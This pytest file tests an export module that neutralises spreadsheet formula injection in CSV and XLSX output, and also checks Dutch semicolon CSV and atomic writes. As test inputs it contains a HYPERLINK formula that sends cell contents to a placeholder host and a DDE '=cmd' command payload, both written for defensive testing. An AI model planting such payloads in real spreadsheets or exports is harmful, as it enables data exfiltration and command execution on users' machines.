"""Spreadsheet-safe CSV: formulas neutralised (RELIABILITY §3), Dutch Excel's dialect, round trips."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from makelaar.forms.export import neutralise, write_csv, write_xlsx


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (
            '=HYPERLINK("http://x.example/?q="&A1,"klik")',
            '\'=HYPERLINK("http://x.example/?q="&A1,"klik")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+A1+B1", "'+A1+B1"),
        ("-1+1", "'-1+1"),
        ("-", "'-"),
        ("\tdata", "'\tdata"),
        ("\rdata", "'\rdata"),
        ("%macro", "'%macro"),
        ("-3,5", "-3,5"),
        ("+31 6 12345678", "+31 6 12345678"),
        ("-1.234,5", "-1.234,5"),
        ("-.5", "-.5"),
        ("Overvecht", "Overvecht"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_formula_starts_are_neutralised_and_signed_numbers_kept(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_none_and_numbers_become_text() -> None:
    assert neutralise(None) == ""
    assert neutralise(-3) == "-3"


def test_csv_is_semicolon_utf8_bom_and_round_trips_awkward_cells(tmp_path: Path) -> None:
    awkward = 'komma, "quote"; puntkomma\nnieuwe regel ë €'
    path = write_csv(
        tmp_path / "uit" / "lijst.csv",
        ["e-mail", "=kop"],
        [["a@example.nl", awkward], ["@SUM(A1)", "-3,5"]],
    )
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.splitlines()[0] == b"\xef\xbb\xbfe-mail;'=kop"
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream, delimiter=";"))
    assert rows == [["e-mail", "'=kop"], ["a@example.nl", awkward], ["'@SUM(A1)", "-3,5"]]
    assert [p.name for p in path.parent.iterdir()] == ["lijst.csv"]  # no temporary left


def test_a_failed_write_leaves_the_previous_file(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "lijst.csv", ["a"], [["oud"]])

    def rows() -> Iterator[list[str]]:
        yield ["nieuw"]
        raise RuntimeError("kapot halverwege")

    with pytest.raises(RuntimeError, match="halverwege"):
        write_csv(path, ["a"], rows())
    assert path.read_bytes() == b"\xef\xbb\xbfa\r\noud\r\n"
    assert [p.name for p in tmp_path.iterdir()] == ["lijst.csv"]


def test_xlsx_cells_are_text_and_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = write_xlsx(
        tmp_path / "export.xlsx",
        ["=kop", "getal"],
        [['=HYPERLINK("http://x")', 3.5], ["@SUM(A1)", -2], ["-3,5", 'komma, "q"; \nregel']],
    )
    workbook = openpyxl.load_workbook(path)
    rows = [[c.value for c in row] for row in workbook.active.iter_rows()]
    types = [[c.data_type for c in row] for row in workbook.active.iter_rows()]
    assert rows == [
        ["'=kop", "getal"],
        ['\'=HYPERLINK("http://x")', 3.5],
        ["'@SUM(A1)", -2],
        ["-3,5", 'komma, "q"; \nregel'],
    ]
    assert "f" not in {t for row in types for t in row}
    assert [p.name for p in tmp_path.iterdir()] == ["export.xlsx"]
